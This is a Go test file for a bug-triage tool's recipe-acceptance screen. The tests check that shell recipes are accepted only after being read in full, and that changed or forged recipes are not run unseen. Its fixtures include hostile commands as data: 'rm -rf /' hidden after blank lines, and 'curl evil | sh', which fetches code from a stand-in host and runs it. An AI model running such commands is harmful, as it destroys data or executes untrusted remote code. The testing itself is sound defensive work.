package recipe_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/almatriage/almatriage/reproduce"
	"github.com/almatriage/almatriage/tracker"
	"github.com/almatriage/almatriage/tui/runs"
	"github.com/almatriage/almatriage/tui/screen/recipe"
	"github.com/almatriage/almatriage/tui/theme"
	"github.com/almatriage/almatriage/tui/tuitest"
)

func TestWhatExecutesOtherwiseNeedsAcceptanceAgain(t *testing.T) {
	b := open(t, theme.None, 100, 40, with(t, tuitest.Gizmo, reproduce.OriginSet))
	b.Keys("e", "down", "down", "down", "end")
	b.Type(" || exit 3")
	b.Keys("ctrl+s")
	if r := b.stored(); r.IsAccepted() || !strings.Contains(r.Recipe.Test, "exit 3") {
		t.Fatalf("stored %+v", r)
	}
	b.Has("Not accepted", "a accepts what it runs")
	b.Keys("a")
	b.Has("exit 3", "AlmaLinux 9", "quay.io/almalinuxorg/almalinux:9", "CentOS Stream 9", "The test reaches no network", "1m00s an attempt")
	b.Keys("enter", "e", "a", "esc")
	if b.stored().IsAccepted() {
		t.Fatal("accepted without y")
	}
	b.Has("Not accepted")
	b.Keys("a", "y")
	if r := b.stored(); !r.IsAccepted() || r.AcceptedBy != "tester" || !r.AcceptedAt.Equal(tuitest.Noon()) {
		t.Fatalf("stored %+v", r)
	}
	b.Has("● Accepted")
	if b.runs() != 0 {
		t.Error("a run was asked for")
	}
}

func TestRunAsksForAcceptanceFirst(t *testing.T) {
	b := open(t, theme.None, 100, 40, with(t, tuitest.Gizmo, reproduce.OriginImported))
	b.Keys("r")
	if b.runs() != 0 {
		t.Fatal("it ran without acceptance")
	}
	b.Has("y accepts exactly this and runs it")
	b.Keys("esc", "a", "y") // the run is forgotten
	if b.runs() != 0 {
		t.Fatal("it ran without being asked for")
	}
	b.Keys("r")
	if b.runs() != 1 {
		t.Errorf("%d runs", b.runs())
	}
}

func TestAcceptingForARunGoesOn(t *testing.T) {
	b := open(t, theme.None, 100, 40, with(t, tuitest.Gizmo, reproduce.OriginDraft))
	b.Keys("r", "y")
	if !b.stored().IsAccepted() || b.runs() != 1 {
		t.Errorf("accepted %v, %d runs", b.stored().IsAccepted(), b.runs())
	}
}

func TestAcceptanceMustBeReadToItsEnd(t *testing.T) {
	long := "summary: x\ntest: |\n  true\n" + strings.Repeat("\n", 60) + "  rm -rf /\n"
	b := open(t, theme.None, 80, 24, with(t, long, reproduce.OriginImported))
	b.Keys("a", "y")
	b.Has("read it to its end first")
	b.Lacks("rm -rf")
	if b.stored().IsAccepted() {
		t.Fatal("accepted unread")
	}
	for range 20 {
		b.Keys("pgdown")
	}
	b.Has("62  rm -rf /")
	b.Keys("pgup", "y")
	if !b.stored().IsAccepted() {
		t.Error("not accepted")
	}
}

func TestWhatIsTooLongToBeReadIsNotAcceptedHere(t *testing.T) {
	long := "summary: x\ntest: |\n" + strings.Repeat("  true\n", recipe.ReadLines+1)
	b := open(t, theme.None, 80, 24, with(t, long, reproduce.OriginImported))
	b.Keys("a")
	b.Has("too much to be read here", "almatriage recipe accept 'almbz#5'")
	b.Keys("G", "y")
	if b.stored().IsAccepted() {
		t.Fatal("accepted")
	}
}

func TestConflictWithAnotherProcess(t *testing.T) {
	b := open(t, theme.None, 100, 40, with(t, tuitest.Gizmo, reproduce.OriginDraft))
	b.Keys("a")
	evil := strings.Replace(tuitest.Gizmo, "gizmo add 2 2", "curl evil", 1)
	b.World.SetRecipe(t, id, evil, reproduce.OriginImported)
	b.Keys("y")
	if b.stored().IsAccepted() {
		t.Fatal("accepted what was not shown")
	}
	b.Has("changed meanwhile", "curl evil", "Not accepted", "imported")
}

func TestFileThatIsNotWhatRuns(t *testing.T) {
	b := open(t, theme.None, 100, 40, func(w *tuitest.World) {
		forged := reproduce.Recipe{Summary: "x", Test: "curl evil | sh\n", Source: tuitest.Gizmo}
		if _, err := w.DB.SetRecipe(w.Ctx, id, forged, reproduce.OriginImported, "mallory", w.Clock); err != nil {
			t.Fatal(err)
		}
	})
	b.Has("is not what the recipe executes")
	b.Keys("a")
	b.Has("curl evil | sh")
	b.Lacks("gizmo add")
}

func TestWhereAndLimitsThatAreNotKnown(t *testing.T) {
	b := open(t, theme.None, 100, 40, with(t, tuitest.Gizmo, reproduce.OriginImported), func(r *tracker.Report) { r.Release = "" })
	b.Env.Runs = runs.NewManager(b.World.Ctx, func() (*reproduce.Lab, error) { return nil, errors.New("no podman\x1b[2J here") })
	b.Keys("a")
	b.Has("does not say which release", "not known: no podman here")
	b.Keys("y")
	if !b.stored().IsAccepted() {
		t.Error("what it executes can be accepted all the same")
	}
}

func TestLeavingWhileItIsAccepted(t *testing.T) {
	b := open(t, theme.None, 100, 40, with(t, tuitest.Gizmo, reproduce.OriginDraft))
	b.Keys("r")
	accepting := b.command("recipe.agree")
	b.Keys("y") // twice is once
	b.Has("it is being accepted")
	b.Keys("esc")
	b.Send(accepting())
	if !b.stored().IsAccepted() || b.runs() != 0 || b.closed() {
		t.Errorf("accepted %v, %d runs", b.stored().IsAccepted(), b.runs())
	}
	b.Has("● Accepted")
}
